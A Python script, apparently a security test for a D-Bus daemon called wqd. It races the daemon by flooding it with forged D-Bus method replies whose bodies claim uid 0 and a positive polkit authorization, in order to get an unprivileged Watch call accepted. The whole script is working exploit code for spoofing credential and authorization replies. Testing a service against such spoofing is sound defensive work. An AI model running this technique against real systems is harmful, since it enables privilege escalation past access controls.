"""An attacker that answers for the bus daemon and for polkit: run as uid 1000/1001.

``forge_replies.py ADDRESS SOURCE TARGET ATTEMPTS``. Each attempt opens a fresh
connection (wqd asks the bus, and polkit, once per unique name), learns wqd's
current message serial from the serial of its reply to the flooder's ``Peer.Ping``, then calls
``Watch(SOURCE, TARGET)`` while a second connection floods wqd with forged
``METHOD_RETURN`` replies whose reply serials cover the next serials wqd will use:
bodies that claim ``UnixUserID`` 0 / ``ProcessID`` 1, that claim polkit
authorized, and wrong-typed ones. Prints one JSON object: the unique names used,
the Watch outcome of each attempt and how many forged replies were sent.
"""

import asyncio
import json
import sys

from dbus_fast import Message, MessageType, Variant
from dbus_fast.aio import MessageBus

from wqd.bus.connection import FlowControlledBus  # waits when the socket is full, where dbus-fast gives up

WQD = "io.wqd.WatchQueue1"
SPREAD = range(-2, 24)  # reply serials tried, relative to wqd's last known serial

FORGED = [
    ("a{sv}", [{"UnixUserID": Variant("u", 0), "ProcessID": Variant("u", 1), "UnixGroupIDs": Variant("au", [0])}]),
    ("(bba{ss})", [[True, False, {}]]),  # polkit: authorized
    ("s", ["uid 0"]),  # wrong type for either
    ("a{sv}", [{"UnixUserID": Variant("s", "0"), "ProcessID": Variant("s", "1")}]),
    ("a{sv}", [{"ProcessID": Variant("u", 1)}]),
    ("u", [1]),  # a RequestName/StartServiceByName-shaped answer
    ("", []),
]


async def flood(bus: MessageBus, owner: str, base: list[int], stop: asyncio.Event, sent: list[int]) -> None:
    while not stop.is_set():
        for delta in SPREAD:
            for signature, body in FORGED:
                msg = Message(message_type=MessageType.METHOD_RETURN, destination=owner,
                              reply_serial=max(1, base[0] + delta), signature=signature, body=body)
                await bus.send(msg)
                sent[0] += 1
            if stop.is_set():
                return


async def main(address: str, source: str, target: str, attempts: int) -> None:
    flooder = await FlowControlledBus(bus_address=address).connect()
    owner = (await flooder.call(Message(destination="org.freedesktop.DBus", path="/org/freedesktop/DBus",
                                        interface="org.freedesktop.DBus", member="GetNameOwner", signature="s",
                                        body=[WQD]))).body[0]
    results, names, sent = [], [], [0]
    for _ in range(attempts):
        caller = await MessageBus(bus_address=address).connect()
        names.append(caller.unique_name)
        # wqd's current serial, asked by the flooder: the caller's first contact with
        # wqd must be its Watch, so that wqd's GetConnectionCredentials for it is
        # pending while the flood runs (wqd may look a caller up on any call, Ping too).
        pong = await flooder.call(Message(destination=owner, path="/", interface="org.freedesktop.DBus.Peer",
                                          member="Ping"))
        base = [pong.serial]
        stop = asyncio.Event()
        task = asyncio.ensure_future(flood(flooder, owner, base, stop, sent))
        await asyncio.sleep(0)
        reply = await caller.call(Message(destination=WQD, path="/io/wqd/WatchQueue1", interface=WQD,
                                          member="Watch", signature="ssa{sv}", body=[source, target, {}]))
        stop.set()
        await task
        if reply.message_type == MessageType.ERROR:
            results.append(reply.error_name)
        else:
            results.append("allowed")
        caller.disconnect()
    flooder.disconnect()
    print(json.dumps({"flooder": flooder.unique_name, "names": names, "results": results, "sent": sent[0]}))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])))
